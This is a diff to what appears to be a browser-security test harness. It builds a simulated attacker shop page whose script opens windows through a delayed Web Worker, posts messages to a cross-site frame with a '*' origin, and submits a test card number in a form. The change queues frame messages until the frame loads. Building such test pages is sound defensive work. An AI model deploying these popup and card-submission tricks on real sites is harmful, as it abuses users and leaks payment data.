@@ -42,6 +42,11 @@ function shopPage(sites: AttackSites): string {
   const script = `
     const cells = ${cells};
     const frame = document.getElementById('ad');
+    // The frame of another site loads on its own time (slowly on a busy machine): cells for it wait until it has loaded
+    // and listens, as a real page's script would wait for its partner frame, so none is posted into a frame not there yet.
+    let frameLoaded = false;
+    const forFrame = [];
+    frame.addEventListener('load', () => { frameLoaded = true; forFrame.splice(0).forEach((cell) => frame.contentWindow.postMessage(cell, '*')); });
     const worker = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => setTimeout(() => postMessage(e.data), e.data.delay)"], { type: 'text/javascript' })));
     worker.onmessage = (e) => window.open(e.data.url);
     // Not named open: a global function of that name would be window.open itself.
@@ -56,7 +61,7 @@ function shopPage(sites: AttackSites): string {
           const field = document.createElement('input'); field.name = 'card'; field.value = '4111111111111111'; form.append(field);
           document.body.append(form); form.submit();
         }, cell.delay);
-        case 'frame': return frame.contentWindow.postMessage(cell, '*');
+        case 'frame': return frameLoaded ? frame.contentWindow.postMessage(cell, '*') : forFrame.push(cell);
         case 'worker': return worker.postMessage(cell);
       }
     }
